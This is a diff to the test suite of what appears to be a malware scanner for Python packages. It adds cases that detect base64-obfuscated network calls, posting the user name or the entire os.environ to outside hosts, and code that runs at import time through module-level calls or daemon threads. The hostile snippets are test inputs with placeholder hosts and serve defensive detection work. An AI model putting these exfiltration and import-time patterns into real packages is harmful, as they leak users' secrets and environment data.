@@ -82,6 +82,16 @@ CASES: list[tuple[str, str, str]] = [
     ),
     ("code.obfuscator", "from pytransform import pyarmor_runtime\n", "from typing import Any\n"),
     ("code.long_lines", "x = [" + "1, " * 400 + "]\n", "x = [1, 2, 3]\n"),
+    (
+        "code.decoded_sink",
+        f"import base64, requests\nrequests.get(base64.b64decode('{B64}') + b'/k')\n",
+        "import base64, requests\nrequests.get('https://example.invalid', data=base64.b64encode(b'x'))\n",
+    ),
+    (
+        "code.exfil_flow",
+        "import getpass, requests\nu = getpass.getuser()\nrequests.post('https://h.invalid', json=[u])\n",
+        "import os, requests\nrequests.get('https://example.invalid', headers={'T': os.environ['TOKEN']})\n",
+    ),
 ]
 
 
@@ -177,3 +187,54 @@ def test_text_files_are_scanned_for_urls_and_scripts() -> None:
     assert f.values["code.raw_ip"] > 0
     assert f.values["code.download_exec"] == 1.0
     assert f.evidence_for("code.download_exec")[0].file == "demo-1.0/tools/get.sh"
+
+
+def test_exfil_flow_whole_environment_but_not_one_variable() -> None:
+    whole = (
+        "import os, requests\nenv = os.environ.copy()\nrequests.post('https://example.invalid', json=env)\n"
+    )
+    assert scan(whole).values["code.exfil_flow"] == 1.0
+    one = "import os, requests\nenv = os.environ.copy()\nrequests.post('https://h.invalid', data=env['X'])\n"
+    assert scan(one).values["code.exfil_flow"] == 0.0
+    process = "import os, subprocess\nsubprocess.run(['echo'], env=dict(os.environ))\n"
+    assert scan(process).values["code.exfil_flow"] == 0.0
+
+
+IMPORT_TIME = "install.import_time_payload"
+
+
+def test_import_time_payload_at_module_level_of_any_module() -> None:
+    top = scan("import subprocess\nsubprocess.run(['echo', 'hi'])\n", path="pkg/util.py")
+    assert top.values[IMPORT_TIME] == 1.0
+    ev = top.evidence_for(IMPORT_TIME)
+    assert ev[0].file == "demo-1.0/pkg/util.py" and ev[0].line == 2
+    in_function = scan(
+        "import subprocess\ndef f():\n    subprocess.run(['echo', 'hi'])\n", path="pkg/util.py"
+    )
+    assert in_function.values[IMPORT_TIME] == 0.0
+
+
+def test_import_time_payload_skips_main_guard() -> None:
+    code = "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['echo', 'hi'])\n"
+    assert scan(code, path="pkg/cli.py").values[IMPORT_TIME] == 0.0
+
+
+def test_import_time_payload_follows_local_calls_and_threads() -> None:
+    code = (
+        "import threading, urllib.request\n"
+        "def send():\n    urllib.request.urlopen('https://example.invalid')\n"
+        "def start():\n    send()\n"
+        "threading.Thread(target=start, daemon=True).start()\n"
+    )
+    feats = scan(code, path="pkg/helpers.py")
+    assert feats.values[IMPORT_TIME] == 1.0
+    ev = feats.evidence_for(IMPORT_TIME)[0]
+    assert ev.line == 6 and "send()" in ev.message
+    never_called = code.replace("threading.Thread(target=start, daemon=True).start()\n", "")
+    assert scan(never_called, path="pkg/helpers.py").values[IMPORT_TIME] == 0.0
+
+
+def test_import_time_payload_ignores_setup_py() -> None:
+    feats = scan("import os\nos.system('echo hi')\n", path="setup.py")
+    assert feats.values["install.setup_suspicious"] == 1.0
+    assert feats.values[IMPORT_TIME] == 0.0
